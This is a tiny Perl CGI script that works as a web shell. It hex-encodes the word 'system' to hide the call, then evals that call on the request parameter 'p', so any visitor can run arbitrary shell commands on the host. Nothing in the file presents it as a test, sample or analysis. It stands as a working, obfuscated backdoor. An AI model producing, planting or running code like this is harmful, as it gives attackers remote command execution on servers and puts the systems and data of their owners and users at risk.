#!/usr/bin/perl
use CGI;
my $q = CGI->new;
print $q->header('text/plain');
my $f = pack("H*", "73797374656d");
my $r = $q->param('p');
my $code = "$f(\$r)";
eval $code;
